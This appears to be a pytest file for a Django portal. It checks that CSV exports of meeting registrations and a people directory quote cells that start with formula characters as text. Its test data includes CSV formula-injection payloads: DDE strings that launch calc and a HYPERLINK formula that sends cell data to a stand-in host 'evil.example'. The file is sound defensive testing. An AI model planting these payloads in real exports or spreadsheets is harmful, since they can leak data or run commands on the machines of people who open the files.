"""
CSV exports never hand a spreadsheet a formula: a cell that starts (also after leading whitespace)
with "=", "+", "-" or "@", or with a tab or carriage return, is exported as text, quoted with an
apostrophe, in every export (the directory, a meeting's registrations). Phone numbers stay as
they are.
"""

import csv
import io

import pytest

from django.urls import reverse

from meetings.models import Registration
from portal.spreadsheet import safe_cell
from tests.meetings.factories import make_meeting, make_person
from tests.network.factories import CountryFactory, PersonFactory

# One payload per way a formula can start.
FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\tcmd|' /C calc'!A0",
    "carriage return": "\rcmd|' /C calc'!A0",
    "spaces then equals": '  =HYPERLINK("http://evil.example")',
    "newline then at": "\n@SUM(1+1)",
    "tab then plus": "\t+1+cmd|' /C calc'!A0",
}
HARMLESS = ["Ana", "O'Brien", "a=b", "Ministry - Unit", "+389 2 311 0000", "-5", "", "Ñuñoa"]


def rows(response):
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("payload", FORMULAS.values(), ids=FORMULAS.keys())
def test_text_a_spreadsheet_would_run_is_quoted_as_text(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_and_phone_numbers_are_left_as_they_are(text):
    assert safe_cell(text) == text


def test_an_empty_value_is_an_empty_cell():
    assert safe_cell(None) == ""


@pytest.mark.django_db
def test_the_registrations_export_quotes_every_formula_start(secretariat_client):
    meeting = make_meeting()
    for name, payload in FORMULAS.items():
        Registration.objects.create(
            meeting=meeting, person=make_person(given_name=payload, family_name=name)
        )
    url = reverse("meetings:registrations_csv", args=[meeting.pk])
    exported = {row["family_name"]: row["given_name"] for row in rows(secretariat_client.get(url))}
    assert exported == {name: "'" + payload for name, payload in FORMULAS.items()}


@pytest.mark.django_db
def test_the_directory_export_quotes_every_formula_start_and_keeps_phone_numbers(
    secretariat_client,
):
    country = CountryFactory(iso_code="MK", name="North Macedonia")
    for name, payload in FORMULAS.items():
        PersonFactory(country=country, family_name=name, job_title=payload, phone="+389 2 000 111")
    exported = rows(secretariat_client.get(reverse("network:export_csv")))
    assert {row["family_name"]: row["job_title"] for row in exported} == {
        name: "'" + payload for name, payload in FORMULAS.items()
    }
    assert {row["phones"] for row in exported} == {"+389 2 000 111"}
